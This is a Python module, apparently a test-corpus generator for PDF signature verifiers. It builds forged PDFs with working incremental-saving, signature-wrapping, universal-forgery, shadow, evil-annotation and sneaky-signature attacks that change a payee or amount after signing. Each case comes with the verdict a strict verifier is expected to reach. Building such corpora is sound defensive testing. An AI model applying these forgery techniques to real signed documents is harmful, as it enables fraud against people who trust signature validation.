        entries.update({number: ("n", objects_at + offset, generation)
                        for number, (offset, generation) in relative.items()})
        return xref_section(revision, old_xref, entries, previous, doc.uses_xref_stream,
                            section_size(revision, entries))

    head = b"<" + slot.cms_der(data).hex().encode("ascii") + b">" + dictionary_tail(data, slot)
    if b + len(head) > old_xref:
        raise ForgeryError("the original gap is too small to wrap the signature")
    objects_at = old_xref + len(section_for(0, 0))
    new_c = objects_at + len(blob) + 1
    section = section_for(objects_at, new_c - c)
    if old_xref + len(section) != objects_at:
        raise ForgeryError("the xref section changed length between passes")
    head = head.replace(BR_PLACEHOLDER, b"[%010d %010d %010d %010d]" % (a, b, new_c, d))
    gap = head + b" " * (old_xref - b - len(head)) + section + blob + b"\n"
    return data[:b] + gap + data[c:]


def dictionary_tail(data: bytes, slot: SignatureSlot) -> bytes:
    """What follows /Contents in the signature object (keys such as /Type, /Filter, /M), with
    its /ByteRange replaced by the placeholder, or the placeholder added as a later key."""
    end = signature_object_end(data, slot)
    tail = data[slot.hex_span[1]:end]
    close = tail.rfind(b">>")
    if close < 0:
        raise ForgeryError("the signature dictionary is not closed after /Contents")
    replaced, count = BYTE_RANGE.subn(b"/ByteRange " + BR_PLACEHOLDER, tail, count=1)
    if count == 0:
        replaced = tail[:close] + b" /ByteRange " + BR_PLACEHOLDER + b" " + tail[close:]
    return replaced + b"endobj\n"


SWA_REASON = b" /Reason (Approved: 1,000,000 VND)"
SWA_FORGED_REASON = b" /Reason (Approved: 9,900,000 VND)"


def range_inside_contents(layout: Layout) -> tuple[int, int, int, int]:
    """The second part starts 32 hex digits before the end of /Contents."""
    c = layout.contents_end - 33
    return 0, layout.contents_start, c, layout.total - c


def range_after_reason(layout: Layout) -> tuple[int, int, int, int]:
    """The second part starts after the /Reason entry that follows /Contents."""
    c = layout.contents_end + len(SWA_REASON)
    return 0, layout.contents_start, c, layout.total - c


def range_over_extra_object(layout: Layout) -> tuple[int, int, int, int]:
    """The gap runs from /Contents to the end of the object after the signature object."""
    c = layout.extra_span[1]
    return 0, layout.contents_start, c, layout.total - c


def swa_range_inside_contents(data: bytes, signer: signers.Signer) -> bytes:
    """A crafted signature whose second signed part starts inside /Contents."""
    spec = CraftedSignature(signer, "Wrapped", byte_range=range_inside_contents)
    return append_crafted_signature(Document(data), spec)[0]


def swa_range_after_contents(data: bytes, signer: signers.Signer) -> bytes:
    """Signed with the /Reason entry left in the gap; the reason is rewritten afterwards."""
    spec = CraftedSignature(signer, "Wrapped", tail_in_dict=SWA_REASON,
                            byte_range=range_after_reason)
    signed, layout = append_crafted_signature(Document(data), spec)
    start = layout.contents_end
    return signed[:start] + SWA_FORGED_REASON + signed[start + len(SWA_REASON):]


def swa_gap_with_object(data: bytes, signer: signers.Signer) -> bytes:
    """The gap covers /Contents and the next object, a page-1 content stream that says
    "Checked" when signed and is rewritten with the forged payee and amount afterwards."""
    doc = Document(data)
    box = page_box(doc, doc.page_refs()[0])
    benign = text_content([(int(box[0]) + 72, int(box[3]) - 320, 10, "Checked.")],
                          b"/SohoaForged")
    forged = forged_overlay(box, b"/SohoaForged")
    width = max(len(benign), len(forged))
    spec = CraftedSignature(signer, "Wrapped", extra_content=benign.ljust(width),
                            byte_range=range_over_extra_object)
    signed, layout = append_crafted_signature(doc, spec)
    start = signed.index(benign, layout.extra_span[0])
    return signed[:start] + forged.ljust(width) + signed[start + width:]


# ---------------------------------------------------------------------------------------------
# Shadow attacks: hidden content prepared before signing, revealed after
# ---------------------------------------------------------------------------------------------

def shadow_hide_page_contents(data: bytes) -> bytes:
    """Page 1 redefined to draw only the malicious stream, without the overlay."""
    doc = Document(data)
    revision = Revision(doc)
    page = doc.page_refs()[0]
    page_dict = doc.copy_dict(page)
    page_dict[name("/Contents")] = Raw(ref_text(HIDE_MALICIOUS))
    revision.put_ref(page, page_dict)
    return append_revision(revision)


def shadow_hide_xref_free(data: bytes) -> bytes:
    """An xref-only revision that marks the overlay stream free."""
    revision = Revision(Document(data))
    revision.freed[HIDE_OVERLAY] = 1
    return append_revision(revision)


def shadow_hide_xref_redirect(data: bytes) -> bytes:
    """An xref-only revision that points the overlay's entry at the unused empty stream."""
    doc = Document(data)
    revision = Revision(doc)
    revision.repointed[HIDE_OVERLAY] = (doc.offset_of(generic.Reference(HIDE_EMPTY, 0)), 0)
    return append_revision(revision)


def shadow_replace_field(data: bytes) -> bytes:
    """The text field gets a new value and a new appearance stream."""
    doc = Document(data)
    revision = Revision(doc)
    width, height = FIELD_RECT[2] - FIELD_RECT[0], FIELD_RECT[3] - FIELD_RECT[1]
    helv = doc.acroform()[0]["/DR"]["/Font"].raw_get("/Helv").idnum
    appearance = revision.add(form_xobject(width, height, field_appearance("99,000,000 VND"), helv))
    field = doc.copy_dict(generic.Reference(REPLACE_FIELD, 0))
    field[name("/V")] = Raw(pdf_text("99,000,000 VND"))
    field[name("/AP")] = Raw(b"<< /N %s >>" % ref_text(appearance))
    revision.put(REPLACE_FIELD, serialize(field))
    return append_revision(revision)


def shadow_replace_font(data: bytes) -> bytes:
    """The font's encoding maps the code of "1" to the glyph "nine", and its descriptor is
    replaced, so the unchanged text "1,000,000" shows as "9,000,000"."""
    revision = Revision(Document(data))
    revision.put(REPLACE_ENCODING, b"<< /Type /Encoding /BaseEncoding /WinAnsiEncoding "
                                   b"/Differences [49 /nine] >>")
    revision.put(REPLACE_DESCRIPTOR, font_descriptor(b"/Helvetica-Bold", 262176, 140))
    return append_revision(revision)


def shadow_hide_replace_xref(data: bytes) -> bytes:
    """An xref-only revision pointing page 1's content at its first (malicious) version."""
    doc = Document(data)
    revision = Revision(doc)
    first = doc.offset_of(generic.Reference(HIDDEN_CONTENT, 0), revision=0)
    revision.repointed[HIDDEN_CONTENT] = (first, 0)
    return append_revision(revision)


def shadow_hide_replace_page(data: bytes) -> bytes:
    """Page 1 redefined so /Contents is the unused malicious stream."""
    doc = Document(data)
    revision = Revision(doc)
    page = doc.page_refs()[0]
    page_dict = doc.copy_dict(page)
    page_dict[name("/Contents")] = Raw(ref_text(HIDDEN_STREAM))
    revision.put_ref(page, page_dict)
    return append_revision(revision)


def shadow_hide_replace_catalog(data: bytes) -> bytes:
    """The catalog redefined so /Pages is the unused malicious page tree."""
    doc = Document(data)
    revision = Revision(doc)
    revision.put_ref(doc.root_ref, catalog_with(doc, Pages=Raw(ref_text(HIDDEN_PAGES))))
    return append_revision(revision)


# ---------------------------------------------------------------------------------------------
# EAA, SSA and certification on the certified document
# ---------------------------------------------------------------------------------------------

def eaa_annotations(data: bytes, kinds: list[bytes], covering: bool = True,
                    rect: tuple[int, int, int, int] | None = None) -> bytes:
    """Annotations on page 1 (each `kind` is its subtype-specific entries) over `rect` (by
    default the payee/amount area); covering ones get an opaque appearance with the forged
    payee and amount."""
    doc = Document(data)
    revision = Revision(doc)
    page = doc.page_refs()[0]
    rect = rect or annotation_rect(doc, page)
    numbers = []
    for kind in kinds:
        appearance = b""
        if covering:
            number = appearance_for(revision, rect, [FORGED_PAYEE, FORGED_AMOUNT])
            appearance = b" /AP << /N %s >>" % ref_text(number)
        numbers.append(revision.add(b"<< /Type /Annot %s /Rect [%d %d %d %d] /F 4%s >>"
                                    % ((kind,) + rect + (appearance,))))
    edit_page(doc, revision, page, annotations=numbers)
    return append_revision(revision)


FREETEXT = b"/Subtype /FreeText /DA (/Helv 14 Tf 0 g) /Contents (Payee: Mallory Trading Ltd)"
STAMP = b"/Subtype /Stamp /Name /Approved /Contents (Approved)"
REDACT = b"/Subtype /Redact /OverlayText (Amount: 99,000,000 VND) /Contents (Correction)"
COMMENT = b"/Subtype /Text /Open true /Contents (The amount is 99,000,000 VND.)"
HIGHLIGHT = (b"/Subtype /Highlight /C [1 1 0] /Contents (changed) "
             b"/QuadPoints [72 640 300 640 72 616 300 616]")


def ssa(data: bytes, signer: signers.Signer | None) -> bytes:
    """A new signature field whose visible appearance covers page 1 with forged values."""
    doc = Document(data)
    rect = annotation_rect(doc, doc.page_refs()[0])
    spec = CraftedSignature(signer, "Signature2", rect=rect,
                            appearance_lines=[FORGED_PAYEE, FORGED_AMOUNT])
    return append_crafted_signature(doc, spec)[0]


def second_certification(data: bytes, signer: signers.Signer) -> bytes:
    """A crafted DocMDP P=2 certification signature, with a new /Perms, after the first."""
    spec = CraftedSignature(signer, "Certification2", certify=True)
    return append_crafted_signature(Document(data), spec)[0]


# ---------------------------------------------------------------------------------------------
# Later visible signatures, form fields and annotations: free areas and covered content
# ---------------------------------------------------------------------------------------------

def unsigned_original(data: bytes) -> bytes:
    """The bytes of a signed input up to the revision that holds its first signature."""
    slots = find_signatures(data)
    if not slots:
        raise ForgeryError("no signature found in the bytes")
    return data[:revision_start_before(data, slots[0].object_start)]


def size_of(rect: tuple[int, int, int, int]) -> tuple[int, int]:
    return rect[2] - rect[0], rect[3] - rect[1]


def form_body(width: int, height: int, content_: bytes, resources: bytes = b"<< >>") -> bytes:
    """A form XObject of the given size (an appearance stream)."""
    return stream_body(content_, b"/Type /XObject /Subtype /Form /BBox [0 0 %d %d] /Resources %s"
                       % (width, height, resources))


def visible_approval(data: bytes, signer: signers.Signer, ignore_docmdp: bool = False) -> bytes:
    """A visible approval by pyHanko with its default stamp, in a free area of page 1."""
    return pyhanko_sign(data, signer, "Approver", box=free_area(data),
                        ignore_docmdp=ignore_docmdp)


def covering_stamp(rect: tuple[int, int, int, int]) -> TextStampStyle:
    """A pyHanko stamp style: an opaque white box filling the field, the forged payee and
    amount on it, no border."""
    width, height = size_of(rect)
    white = content.RawContent(b"1 g 0 0 %d %d re f" % (width, height),
                               box=layout.BoxConstraints(width, height))
    return TextStampStyle(
        stamp_text=f"{FORGED_PAYEE}\n{FORGED_AMOUNT}", border_width=0, background=white,
        background_opacity=1.0, background_layout=layout.SimpleBoxLayoutRule(
            x_align=layout.AxisAlignment.ALIGN_MID, y_align=layout.AxisAlignment.ALIGN_MID,
            margins=layout.Margins.uniform(0),
            inner_content_scaling=layout.InnerScaling.STRETCH_FILL))


def ssa_covering_pyhanko(data: bytes, signer: signers.Signer) -> bytes:
    """A genuine visible approval by pyHanko whose field covers signed content of page 1 and
    whose appearance is a white box with the forged payee and amount."""
    rect = inked_area(data)
    return pyhanko_sign(data, signer, "Approver", box=rect, stamp_style=covering_stamp(rect))


def ssa_white_overlay(data: bytes, signer: signers.Signer) -> bytes:
    """A crafted signed visible signature whose appearance is only a white filled box over
    signed content."""
    rect = inked_area(data)
    width, height = size_of(rect)
    body = form_body(width, height, b"q 1 g 0 0 %d %d re f Q\n" % (width, height))
    spec = CraftedSignature(signer, "Approver", rect=rect, appearance_body=body)
    return append_crafted_signature(Document(data), spec)[0]


def signed_xobject(doc: Document) -> tuple[generic.Reference, generic.StreamObject]:
    """The first image or form XObject named by a page's resources (page 1 first)."""
    for page in doc.page_refs():
        xobjects = doc.effective_resources(page).get("/XObject", generic.DictionaryObject())
        for key in xobjects.keys():
            raw = xobjects.raw_get(key)
            value = raw.get_object() if isinstance(raw, generic.IndirectObject) else None
            if isinstance(value, generic.StreamObject) and value.get("/Subtype") in (
                    "/Image", "/Form"):
                return raw.reference, value
    raise ForgeryError("no page of the signed document has an image or form XObject to re-use")


def fitted_matrix(rect: tuple[int, int, int, int], xobject: generic.StreamObject) -> bytes:
    """The cm operands that draw an XObject centred in the rectangle, keeping its aspect: an
    image fills the unit square, a form XObject draws in its /BBox (its /Matrix is ignored)."""
    width, height = size_of(rect)
    if xobject.get("/Subtype") == "/Image":
        natural = float(xobject["/Width"]), float(xobject["/Height"])
        origin, per_unit = (0.0, 0.0), natural  # the cm maps the unit square to the drawn size
    else:
        bx0, by0, bx1, by1 = (float(value) for value in xobject["/BBox"])
        natural = abs(bx1 - bx0), abs(by1 - by0)
        origin, per_unit = (min(bx0, bx1), min(by0, by1)), (1.0, 1.0)
    scale = min(width / natural[0], height / natural[1])
    e = (width - scale * natural[0]) / 2 - scale * origin[0]
    f = (height - scale * natural[1]) / 2 - scale * origin[1]
    return b"%.4f 0 0 %.4f %.4f %.4f" % (scale * per_unit[0], scale * per_unit[1], e, f)


def ssa_reused_objects(data: bytes, signer: signers.Signer) -> bytes:
    """A crafted signed visible signature in a free area whose appearance draws, through its
    own /Resources /XObject, an XObject object of the signed revision."""
    doc = Document(data)
    rect = free_area(data)
    ref, xobject = signed_xobject(doc)
    width, height = size_of(rect)
    body = form_body(width, height, b"q %s cm /Reused Do Q\n" % fitted_matrix(rect, xobject),
                     b"<< /XObject << /Reused %s >> >>" % ref_text(ref.idnum, ref.generation))
    spec = CraftedSignature(signer, "Approver", rect=rect, appearance_body=body)
    return append_crafted_signature(doc, spec)[0]


def eaa_text_field(data: bytes) -> bytes:
    """A new text field (not a signature field) in a free area of page 1, with a forged value
    and an appearance that shows it, added to the AcroForm and to page 1's /Annots."""
    doc = Document(data)
    revision = Revision(doc)
    page = doc.page_refs()[0]
    rect = free_area(data)
    width, height = size_of(rect)
    font = revision.add(HELVETICA)
    shown = b"/Tx BMC q BT /Helv 10 Tf 0 g 4 %d Td %s Tj ET Q EMC\n" % (
        height // 2 - 3, pdf_text(FORGED_AMOUNT))
    appearance = revision.add(form_xobject(width, height, shown, font))
    field = revision.add(
        b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (correction) /V %s /DA (/Helv 10 Tf 0 g) "
        b"/Rect [%d %d %d %d] /F 4 /P %s /AP << /N %s >> >>"
        % ((pdf_text(FORGED_AMOUNT),) + rect + (ref_text(page.idnum, page.generation),
                                                 ref_text(appearance))))
    edit_page(doc, revision, page, annotations=[field])
    register_field(doc, revision, field, None, False)
    return append_revision(revision)


NOTE_SIZE = 24
NOTE_ICON = (b"q 1 0.9 0.3 rg 0 0 0 RG 1 w 0.5 0.5 23 23 re B "
             b"0.5 w 5 17 m 19 17 l 5 12 m 19 12 l 5 7 m 15 7 l S Q\n")


def p3_comment(data: bytes) -> bytes:
    """A sticky-note (Text) annotation with its own icon appearance in a free area of page 1."""
    doc = Document(data)
    revision = Revision(doc)
    page = doc.page_refs()[0]
    free = free_area(data)
    rect = (free[2] - NOTE_SIZE, free[3] - NOTE_SIZE, free[2], free[3])
    icon = revision.add(form_body(NOTE_SIZE, NOTE_SIZE, NOTE_ICON))
    note = revision.add(b"<< /Type /Annot /Subtype /Text /Rect [%d %d %d %d] /F 4 /Name /Comment "
                        b"/Open false /Contents (Received at the ward office.) /P %s "
                        b"/AP << /N %s >> >>"
                        % (rect + (ref_text(page.idnum, page.generation), ref_text(icon))))
    edit_page(doc, revision, page, annotations=[note])
    return append_revision(revision)


def field_widget(doc: Document, field_name: str) -> generic.Reference:
    """The widget annotation of a top-level form field (the field itself or its first kid)."""
    form, _ = doc.acroform()
    for raw in form.get("/Fields", generic.ArrayObject()):
        field = raw.get_object()
        if field.get("/T") == field_name and isinstance(raw, generic.IndirectObject):
            kids = field.raw_get("/Kids") if "/Kids" in field else None
            if kids is None:
                return raw.reference
            return kids.get_object().raw_get(0).reference
    raise ForgeryError(f"no form field named {field_name}")


def ssa_hidden_then_shown(data: bytes, signer: signers.Signer) -> bytes:
    """An invisible approval by pyHanko; a later revision gives its widget a rectangle over
    signed content and an opaque appearance with the forged payee and amount."""
    signed = pyhanko_sign(data, signer, "Approver")
    doc = Document(signed)
    revision = Revision(doc)
    page = doc.page_refs()[0]
    rect = inked_area(signed)
    widget_ref = field_widget(doc, "Approver")
    widget = doc.copy_dict(widget_ref)
    widget[name("/Rect")] = Raw(b"[%d %d %d %d]" % rect)
    widget[name("/F")] = generic.NumberObject(4)
    widget[name("/P")] = Raw(ref_text(page.idnum, page.generation))
    widget[name("/AP")] = Raw(b"<< /N %s >>" % ref_text(
        appearance_for(revision, rect, [FORGED_PAYEE, FORGED_AMOUNT])))
    revision.put_ref(widget_ref, widget)
    annotations, _ = existing_annotations(doc, page)
    if ref_text(widget_ref.idnum, widget_ref.generation) not in annotations:
        edit_page(doc, revision, page, annotations=[widget_ref.idnum])
    return append_revision(revision)


# ---------------------------------------------------------------------------------------------
# DAMAGE and RESIGN
# ---------------------------------------------------------------------------------------------

def damage_flip_content(data: bytes) -> bytes:
    """Flip a bit in the middle of page 1's first content stream (inside the signed range)."""
    doc = Document(data)
    start, length = doc.stream_data_offset(doc.content_refs(doc.page_refs()[0])[0])
    offset = start + length // 2
    a, b, _, _ = find_signatures(data)[0].byte_range
    if not a <= offset < a + b:
        raise ForgeryError("page 1's content is not inside the first signed part")
    return flip_byte(data, offset)


def damage_flip_cms(data: bytes) -> bytes:
    """Change one hex digit in the middle of the signature value inside the CMS."""
    slot = last_slot(data)
    der = slot.cms_der(data)
    value = cms.ContentInfo.load(der)["content"]["signer_infos"][0]["signature"].contents
    position = der.rfind(value)
    if position < 0:
        raise ForgeryError("signature value not found in the CMS")
    digit = slot.hex_span[0] + 1 + 2 * (position + len(value) // 2)
    replacement = b"1" if data[digit:digit + 1] == b"0" else b"0"
    return data[:digit] + replacement + data[digit + 1:]


def damage_flip_signature_dictionary(data: bytes) -> bytes:
    """Change the last digit of the signing time /M, a signed part of the signature dictionary
    (the date may be written with escapes, such as (D\\07220250101...))."""
    slot = last_slot(data)
    signing_time = re.compile(rb"/M\s*\(([^)]{1,64})\)")
    match = (signing_time.search(data, slot.object_start, slot.hex_span[0])
             or signing_time.search(data, slot.hex_span[1], signature_object_end(data, slot)))
    digits = [match.start(1) + index for index, byte in enumerate(match.group(1))
              if 0x30 <= byte <= 0x39] if match else []
    if not digits:
        raise ForgeryError("the signature dictionary has no /M date")
    digit = digits[-1]
    return data[:digit] + (b"1" if data[digit:digit + 1] == b"0" else b"0") + data[digit + 1:]


def damage_truncate(data: bytes) -> bytes:
    """The file cut halfway between the last-but-one %%EOF and the end."""
    ends = eof_ends(data)
    start = ends[-2] if len(ends) >= 2 else 0
    return data[:(start + len(data)) // 2]


def damage_garbage(data: bytes) -> bytes:
    """Deterministic binary noise appended after the final %%EOF."""
    noise = b"".join(hashlib.sha256(b"sohoa-garbage-%d" % index).digest() for index in range(16))
    return data + b"\n% not a revision\n" + noise + b"\nGARBAGE AFTER %%EOF\n"


def damage_dss_smuggle(data: bytes, cert_der: bytes) -> bytes:
    """A revision that adds a /DSS certificate and also redefines page 1's content stream."""
    doc = Document(data)
    revision = Revision(doc)
    add_dss_certificate(doc, revision, cert_der)
    replace_content_stream(doc, revision, doc.page_refs()[0])
    return append_revision(revision)


def valid_dss(data: bytes, cert_der: bytes) -> bytes:
    """A revision that only adds a /DSS certificate stream (and the catalog entry for it)."""
    doc = Document(data)
    revision = Revision(doc)
    add_dss_certificate(doc, revision, cert_der)
    return append_revision(revision)


def resign_rogue(data: bytes, rogue: signers.Signer) -> bytes:
    """Drop the signature revision, forge page 1, and sign the same field with the rogue key."""
    slot = last_slot(data)
    prefix = data[:revision_start_before(data, slot.object_start)]
    embedded = PdfFileReader(io.BytesIO(data), strict=False).embedded_signatures
    field_name = embedded[-1].field_name if embedded else "Signature1"
    return pyhanko_sign(append_revision(overlay_revision(prefix)), rogue, field_name)


# ---------------------------------------------------------------------------------------------
# The cases
# ---------------------------------------------------------------------------------------------

@dataclasses.dataclass(frozen=True)
class Case:
    """One file of the corpus: how to build it and what a strict verifier must conclude."""
    name: str
    klass: str
    based_on: str
    expect: str
    description: str
    build: Callable[[Inputs], bytes]
    pyhanko_note: str | None = None  # why pyHanko's verdict is expected to differ, if it does


PYHANKO_NO_VISIBLE_AFTER_CERTIFY = (
    "pyHanko's default diff policy refuses any new visible signature field after a "
    "certification signature (SigFieldCreationRule allow_new_visible_after_certify=False, "
    "stricter than Acrobat and than P=2 itself), so it rejects this genuine approval.")
PYHANKO_NO_P3 = (
    "pyHanko's StandardDiffPolicy does not support DocMDP P=3: it explains no added "
    "annotation, so it rejects any comment after a P=3 certification.")


def issuing_ca(inputs: Inputs) -> bytes:
    return pem_to_der(inputs.certs / "issuing-ca.pem")


def baseline_cases() -> list[Case]:
    return [
        Case("baseline-signed", "BASELINE", "signed", "valid",
             "The signed input, unchanged.", lambda i: i.signed),
        Case("baseline-approved", "BASELINE", "approved", "valid",
             "The approved input (two approval signatures), unchanged.", lambda i: i.approved),
        Case("baseline-certified", "BASELINE", "certified", "valid",
             "The certified input (DocMDP P=2), unchanged.", lambda i: i.certified),
        Case("valid-dss-certs", "VALID", "signed", "valid",
             "A revision after the signature that only adds a /DSS with the issuing CA "
             "certificate stream (the catalog is redefined to reference it).",
             lambda i: valid_dss(i.signed, issuing_ca(i))),
        Case("valid-second-approval", "VALID", "signed", "valid",
             "A second approval signature by the approver, made by pyHanko.",
             lambda i: pyhanko_sign(i.signed, i.approver, "Approver")),
    ]


def usf_cases() -> list[Case]:
    def case(name_: str, description: str, build: Callable[[bytes], bytes]) -> Case:
        return Case(name_, "USF", "signed", "invalid", description, lambda i: build(i.signed))

    return [
        case("usf-no-contents", "The /Contents entry is blanked out of the signature dictionary.",
             lambda d: set_contents(d, b"")),
        case("usf-contents-empty", "/Contents is the empty string <>.",
             lambda d: set_contents(d, b"/Contents <>")),
        case("usf-contents-zeros", "/Contents is all zero hex digits.", usf_contents_zeros),
        case("usf-contents-null", "/Contents is null.", lambda d: set_contents(d, b"/Contents null")),
        Case("usf-contents-foreign-cms", "USF", "signed", "invalid",
             "/Contents holds a valid CMS signature by the officer over another document.",
             lambda i: usf_foreign_cms(i.signed, i.foreign)),
        case("usf-contents-no-signerinfo",
             "/Contents holds the original CMS with its SignerInfos set emptied.",
             usf_no_signer_info),
        case("usf-no-byterange", "The /ByteRange entry is blanked out.",
             lambda d: set_byte_range(d, b"")),
        case("usf-byterange-empty", "/ByteRange is the empty array [].",
             lambda d: set_byte_range(d, b"/ByteRange []")),
        case("usf-byterange-three", "/ByteRange has only three numbers.", usf_byterange_three),
        case("usf-byterange-negative", "/ByteRange has negative lengths.", usf_byterange_negative),
        case("usf-byterange-zeros", "/ByteRange is [0 0 0 0].",
             lambda d: set_byte_range(d, b"/ByteRange [0 0 0 0]")),
        case("usf-byterange-beyond-eof", "/ByteRange's second part runs past the end of the file.",
             usf_byterange_beyond_eof),
        case("usf-byterange-null", "/ByteRange is null.",
             lambda d: set_byte_range(d, b"/ByteRange null")),
    ]


def isa_cases() -> list[Case]:
    def case(name_: str, description: str, build: Callable[[bytes], bytes],
             based_on: str = "signed") -> Case:
        return Case(name_, "ISA", based_on, "invalid", description,
                    lambda i: build(getattr(i, based_on)))

    return [
        case("isa-page-content", "A revision gives page 1 a new content stream with a forged "
             "payee and amount, replacing the signed content.", isa_page_content),
        case("isa-own-xref-trailer", "A revision with its own classic xref table and trailer "
             "redefines page 1's content stream object (same number) with forged text.",
             isa_redefine_stream),
        case("isa-add-page", "A revision adds a third page (an annex with a forged payee).",
             isa_add_page),
        case("isa-add-annotation", "A revision adds an open text (sticky note) annotation to "
             "page 1.", isa_add_annotation),
        case("isa-replace-catalog", "A revision adds a new catalog, named by the new trailer's "
             "/Root, whose page tree is one forged page.", isa_replace_catalog),
        case("isa-no-xref", "Objects that overlay forged text on page 1 are appended with a "
             "trailer but no xref section; startxref still names the signed xref.",
             lambda d: append_without_xref(overlay_revision(d))),
        case("isa-no-trailer", "Objects and an xref table that overlay forged text on page 1 are "
             "appended without a trailer; startxref still names the signed xref.",
             lambda d: append_without_trailer(overlay_revision(d))),
        case("isa-prev-loop", "A revision overlays forged text on page 1 and its trailer's /Prev "
             "points at its own xref section.",
             lambda d: append_revision(overlay_revision(d), self_prev=True)),
        case("isa-objects-after-eof", "Objects that overlay forged text on page 1 are appended "
             "after %%EOF with no xref, no trailer and no startxref.",
             lambda d: append_objects_only(overlay_revision(d))),
        case("isa-xref-repoint", "An xref-only revision points page 1's content stream number at "
             "the bytes of another stream object in the signed part (page 2's content if any).",
             isa_repoint_xref),
        case("isa-approved-page-content", "A revision after the approver's signature overlays "
             "forged text on page 1.", lambda d: append_revision(overlay_revision(d)),
             based_on="approved"),
        case("isa-certified-page-content", "A revision after the certification overlays forged "
             "text on page 1 (P=2 forbids content changes).",
             lambda d: append_revision(overlay_revision(d)), based_on="certified"),
        Case("isa-between-signatures", "ISA", "signed", "invalid",
             "A revision overlays forged text on page 1 after the officer signed, then the "
             "approver signs the changed file (the officer's signature must fail).",
             lambda i: isa_between_signatures(i.signed, i.approver)),
    ]


def swa_cases() -> list[Case]:
    return [
        Case("swa-classic", "SWA", "signed", "invalid",
             "The second signed part is moved down (later revisions dropped); the gap holds the "
             "CMS, the signature dictionary's keys with a /ByteRange naming the new position, an "
             "xref where the signed startxref points, and objects that overlay forged text on "
             "page 1.", lambda i: swa_classic(i.signed)),
        Case("swa-range-inside-contents", "SWA", "signed", "invalid",
             "An added officer signature whose /ByteRange second part starts 32 hex digits "
             "before the end of /Contents (cryptographically valid).",
             lambda i: swa_range_inside_contents(i.signed, i.officer)),
        Case("swa-range-after-contents", "SWA", "signed", "invalid",
             "An added officer signature whose /ByteRange also leaves the /Reason entry after "
             "/Contents unsigned, and the reason is rewritten after signing.",
             lambda i: swa_range_after_contents(i.signed, i.officer)),
        Case("swa-gap-with-object", "SWA", "signed", "invalid",
             "An added officer signature whose /ByteRange gap also covers the next object, a "
             "page-1 content stream rewritten after signing with a forged payee and amount.",
             lambda i: swa_gap_with_object(i.signed, i.officer)),
    ]


def shadow_cases() -> list[Case]:
    def case(name_: str, klass: str, source: str, description: str,
             build: Callable[[bytes], bytes]) -> Case:
        return Case(name_, klass, "pyhanko-" + source.replace("_", "-"), "invalid", description,
                    lambda i: build(getattr(i, source)))

    return [
        case("shadow-hide-page-contents", "SHADOW-HIDE", "shadow_hide",
             "Page 1 signed with malicious text under an opaque overlay; a revision redefines "
             "the page to draw only the malicious stream.", shadow_hide_page_contents),
        case("shadow-hide-xref-free", "SHADOW-HIDE", "shadow_hide",
             "Page 1 signed with malicious text under an opaque overlay; an xref-only revision "
             "marks the overlay stream free.", shadow_hide_xref_free),
        case("shadow-hide-xref-redirect", "SHADOW-HIDE", "shadow_hide",
             "Page 1 signed with malicious text under an opaque overlay; an xref-only revision "
             "points the overlay's entry at an unused empty stream in the signed part.",
             shadow_hide_xref_redirect),
        Case("shadow-replace-form-field", "SHADOW-REPLACE", "pyhanko-shadow-replace", "valid",
             "A text field signed with 1,000,000 VND gets the value and appearance 99,000,000 VND "
             "in a revision after signing: form filling, which an approval signature that locks "
             "no field permits; a verifier must list it among the changes after signing.",
             lambda i: shadow_replace_field(i.shadow_replace)),
        case("shadow-replace-form-field-locked", "SHADOW-REPLACE", "shadow_replace_locked",
             "The same fill, but the signature locks the field (FieldMDP Include [amount]).",
             shadow_replace_field),
        case("shadow-replace-font", "SHADOW-REPLACE", "shadow_replace",
             "A revision redefines a signed font's encoding (code of 1 drawn as nine) and "
             "font descriptor, so unchanged text shows another amount.", shadow_replace_font),
        case("shadow-hide-replace-xref", "SHADOW-HIDE-REPLACE", "shadow_hide_replace",
             "An xref-only revision points page 1's content stream entry back at its malicious "
             "first version, still present in the signed bytes.", shadow_hide_replace_xref),
        case("shadow-hide-replace-page", "SHADOW-HIDE-REPLACE", "shadow_hide_replace",
             "A revision redefines only page 1 so its /Contents is an unused malicious stream "
             "that was present when signed.", shadow_hide_replace_page),
        case("shadow-hide-replace-catalog", "SHADOW-HIDE-REPLACE", "shadow_hide_replace",
             "A revision redefines only the catalog so /Pages names an unused page tree with "
             "malicious content that was present when signed.", shadow_hide_replace_catalog),
    ]


def certification_cases() -> list[Case]:
    def case(name_: str, klass: str, description: str, build: Callable[[Inputs], bytes]) -> Case:
        return Case(name_, klass, "certified", "invalid", description, build)

    return [
        case("eaa-freetext", "EAA", "A FreeText annotation with an opaque appearance showing a "
             "forged payee and amount is added after a P=2 certification.",
             lambda i: eaa_annotations(i.certified, [FREETEXT])),
        case("eaa-stamp", "EAA", "A Stamp annotation with an opaque appearance showing a forged "
             "payee and amount is added after a P=2 certification.",
             lambda i: eaa_annotations(i.certified, [STAMP])),
        case("eaa-redact", "EAA", "A Redact annotation with an opaque appearance and overlay "
             "text is added after a P=2 certification.",
             lambda i: eaa_annotations(i.certified, [REDACT])),
        case("eaa-p3-comments", "EAA", "Comment annotations that only P=3 allows (a text note "
             "and a highlight) are added after a P=2 certification.",
             lambda i: eaa_annotations(i.certified, [COMMENT, HIGHLIGHT], covering=False)),
        case("ssa-rogue-signed", "SSA", "A new signature field whose visible appearance covers "
             "page 1 with a forged payee and amount, signed by the rogue signer.",
             lambda i: ssa(i.certified, i.rogue)),
        case("ssa-officer-signed", "SSA", "A new signature field whose visible appearance covers "
             "page 1 with a forged payee and amount, signed by the officer.",
             lambda i: ssa(i.certified, i.officer)),
        case("ssa-unsigned-field", "SSA", "A new, unsigned signature field whose visible "
             "appearance covers page 1 with a forged payee and amount.",
             lambda i: ssa(i.certified, None)),
        case("certification-second", "CERTIFICATION", "A second certification signature (DocMDP "
             "P=2, new /Perms) by the officer is added to the certified document.",
             lambda i: second_certification(i.certified, i.officer)),
    ]


def later_signature_cases() -> list[Case]:
    """What may follow a signature: a visible signature, a form field or a comment. Free areas
    are found by rendering page 1 (free_area); covered content is the payee/amount lines of
    the documents made here, or the middle of a scanned page (inked_area)."""
    p1, p3 = "pyhanko-certified-p1", "pyhanko-certified-p3"
    made_here = ("certified here by pyHanko (officer) from the signed input's bytes before its "
                 "signature (the unsigned document)")
    return [
        Case("valid-visible-approval-free-area", "VALID", "signed", "valid",
             "A visible approval by the approver, made by pyHanko with its default stamp, whose "
             "widget lies in a free (blank) area of page 1.",
             lambda i: visible_approval(i.signed, i.approver)),
        Case("valid-visible-after-p2-free-area", "VALID", "certified", "valid",
             "A visible approval by the approver, made by pyHanko with its default stamp, in a "
             "free area of page 1, after the DocMDP P=2 certification.",
             lambda i: visible_approval(i.certified, i.approver),
